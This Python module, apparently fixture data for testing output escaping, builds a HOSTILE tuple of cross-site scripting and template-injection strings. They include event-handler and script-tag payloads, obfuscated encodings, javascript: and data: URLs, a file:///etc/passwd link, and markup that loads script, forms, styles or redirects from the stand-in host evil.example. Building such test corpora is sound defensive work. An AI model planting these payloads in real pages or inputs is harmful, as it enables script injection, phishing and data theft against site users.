"""What turns into code where somebody forgets to escape: in text, attributes, addresses, styles and templates."""

from __future__ import annotations

_ALERT = "alert(1)"
_EVENTS = (
    "onerror", "onload", "onclick", "onfocus", "onmouseover", "onpointerenter", "onanimationstart", "ontoggle",
    "onbeforetoggle", "onsubmit", "oninput", "onbegin",
)  # fmt: skip
_ELEMENTS = (
    "script", "img", "svg", "iframe", "object", "embed", "link", "meta", "base", "form", "input", "button", "style",
    "video", "audio", "details", "math", "template", "noscript", "xmp", "plaintext", "marquee", "body", "html",
    "textarea", "select", "table", "a", "isindex", "portal", "frameset", "applet",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    " javascript:alert(1)", "\x01javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "blob:https://evil.example/x", "file:///etc/passwd",
    "//evil.example/x", "\\\\evil.example\\x", "https:\\\\evil.example", 'https://good.example@evil.example/\\"onclick=x',
    "https://evil.example/\"onmouseover='alert(1)'", "feed:javascript:alert(1)", "view-source:javascript:alert(1)",
)  # fmt: skip
_ENDS = ("title", "textarea", "style", "script", "option", "select", "button", "label", "td", "noscript", "template")
_OTHERS = (
    "{{ 7 * 7 }}{% raw %}",
    "{{ self.__init__.__globals__ }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script/src=//evil.example></script>",
    "<script\x0b>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<!-- --><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><iframe srcdoc='<script>alert(1)</script>'>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "\u2028<base href=//evil.example>",
    "\ufeff<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=https://evil.example target=_blank>press approve here</a>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x",
    "<button formaction=//evil.example form=f>Approve",
    '"style="background:url(//evil.example)',
    "';}*{background:url(//evil.example)}/*",
    "<style>@import '//evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<img src='//evil.example/?",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "`<script>alert(1)</script>`",
    "a\x7f<b\x85>c",
)
HOSTILE: tuple[str, ...] = (
    *(f"<{name} src=x onerror={_ALERT} href=javascript:{_ALERT}>" for name in _ELEMENTS),
    *(f'x" {event}={_ALERT} x="' for event in _EVENTS),
    *(f"x' {event}={_ALERT} autofocus x='" for event in _EVENTS),
    *(f"</{name}><script>{_ALERT}</script>" for name in _ENDS),
    *_SCHEMES,
    *_OTHERS,
)
